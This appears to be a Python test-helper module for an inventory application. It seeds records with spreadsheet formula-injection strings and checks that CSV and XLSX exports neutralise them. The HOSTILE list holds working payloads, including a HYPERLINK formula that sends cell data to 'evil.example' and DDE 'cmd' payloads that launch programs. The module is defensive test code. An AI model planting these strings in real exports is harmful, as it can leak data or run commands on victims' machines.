"""Hostile text for every field a person or a file can fill, and a small world full of it
(built through the services, on either backend)."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from inventory.exchange.export import FORMULA_STARTS
from inventory.operators import OperatorRef, hash_password, os_operator, set_password
from inventory.services import assets, catalog, purchasing, receiving, stock

ROOT = Path(__file__).resolve().parent.parent

# Each starts a formula in a spreadsheet, directly or once a control character is dropped.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\x01=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x1f\x7f=2+2",
    "\u0085=3+3",
]


ADMIN_PASSWORD = "founding-admin-pw"


@dataclass(frozen=True)
class Login:
    username: str
    password: str


def run_cli(*args: str, url: str, env: dict | None = None, stdin: str | None = None,
            login: Login | None = None, timeout: int = 180) -> subprocess.CompletedProcess:
    """`python main.py ARGS` against the database at `url`, as a person runs it (signed
    in as `login` when given)."""
    full = {k: v for k, v in os.environ.items() if not k.startswith("STOCKROOM_")}
    full.update({"STOCKROOM_DATABASE": url, **(env or {})})
    head: list[str] = []
    if login is not None:
        head = ["--user", login.username]
        full["STOCKROOM_PASSWORD"] = login.password
    return subprocess.run([sys.executable, "main.py", *head, *args], cwd=ROOT, env=full,
                          capture_output=True, text=True, timeout=timeout, input=stdin)


def one_line_refusal(r, *words: str) -> str:
    """The command failed (exit 1) with one line on stderr, no traceback, naming *words*."""
    assert r.returncode == 1, (r.stdout, r.stderr)
    line = r.stderr.strip()
    assert "\n" not in line and "Traceback" not in line, r.stderr
    for w in words:
        assert w in line, line
    return line


def admin_login(db) -> Login | None:
    """Sign-in for the founding admin where the database needs one (PostgreSQL always):
    its password is set first, as the rules ask."""
    import peewee as pw

    if not isinstance(db, pw.PostgresqlDatabase):
        return None
    op = os_operator(db)
    set_password(db, op, op.username, ADMIN_PASSWORD)
    return Login(op.username, ADMIN_PASSWORD)


def make_operator(db, username: str, role: str, password: str | None = None) -> Login:
    """An operator with a password, written directly (as an admin's `operator add` would)."""
    from inventory import models as m

    password = password or f"{username}-password"
    m.Operator.create(username=username, name=username, role=role,
                      password_hash=hash_password(password))
    return Login(username, password)


def build_hostile(db) -> OperatorRef:
    """Locations, products, people, a supplier, a license, assets and movements whose
    text is hostile; stock issued so that the reorder list has lines."""
    op = os_operator(db)
    h = HOSTILE
    catalog.create_location(db, op, h[0], "SITE-X", "site")
    catalog.create_location(db, op, h[1], "SR-X", "stockroom", parent="SITE-X")
    catalog.create_product(db, op, h[2], "spare", manufacturer=h[3], category=h[4],
                           part_number="P-SPARE", unit_cost=12)
    catalog.create_product(db, op, h[5], "device", manufacturer=h[6], category=h[7],
                           part_number="P-DEV", unit_cost=900)
    catalog.create_product(db, op, h[8], "license", part_number="P-LIC")
    catalog.create_person(db, op, "E-X", h[0], email=h[3], department=h[4], cost_centre=h[1],
                          site="SITE-X")
    catalog.create_supplier(db, op, h[1], email=h[2], lead_time_days=5)
    catalog.add_offer(db, op, h[1], "P-SPARE", unit_price=10, lead_time_days=5,
                      supplier_part=h[3])
    catalog.create_license(db, op, "P-LIC", 5, starts_on=date(2026, 1, 1),
                           ends_on=date(2027, 1, 1), cost_per_seat=3, vendor=h[1])
    receiving.receive(db, op, "SR-X", [
        receiving.ReceiptLine("P-DEV", serials=["=SERIAL()", "+S2"]),
        receiving.ReceiptLine("P-SPARE", quantity=6),
    ], reference=h[2])
    stock.issue(db, op, "P-SPARE", 5, person="E-X", location="SR-X", reference=h[5])
    tag = next(iter(db.execute_sql("SELECT tag FROM asset ORDER BY id LIMIT 1")))[0]
    assets.check_out(db, op, tag, person="E-X", reference=h[6])
    purchasing.create_order(db, op, h[1], "SR-X", [("P-SPARE", 4)], note=h[7])
    return op


def formula_cells_in_csv(path_or_text: Path | str) -> tuple[list[str], int]:
    """(cells a spreadsheet would run, cells neutralised with an apostrophe)."""
    if isinstance(path_or_text, Path):
        text = path_or_text.read_text(encoding="utf-8-sig")
    else:
        text = path_or_text
    live, inert = [], 0
    for row in csv.reader(text.splitlines(keepends=True)):
        for cell in row:
            if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                inert += 1
            elif cell.startswith(FORMULA_STARTS) and not _is_number(cell):
                live.append(cell)
            elif any(ord(c) < 32 and c not in "\t\r\n" or 0x7f <= ord(c) <= 0x9f
                     for c in cell):
                live.append(cell)  # a control character that a spreadsheet may drop
    return live, inert


def formula_cells_in_xlsx(path: Path) -> tuple[list[str], int]:
    from openpyxl import load_workbook

    wb = load_workbook(path)  # formulas as written, not cached values
    live, inert = [], 0
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    v = cell.value
                    if cell.data_type == "f" or (isinstance(v, str) and v.startswith("=")):
                        live.append(f"{cell.coordinate}: {v!r}")
                    elif isinstance(v, str) and v.startswith("'") and v[1:].startswith(
                            FORMULA_STARTS + ("\n",)):
                        inert += 1
    finally:
        wb.close()
    return live, inert


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
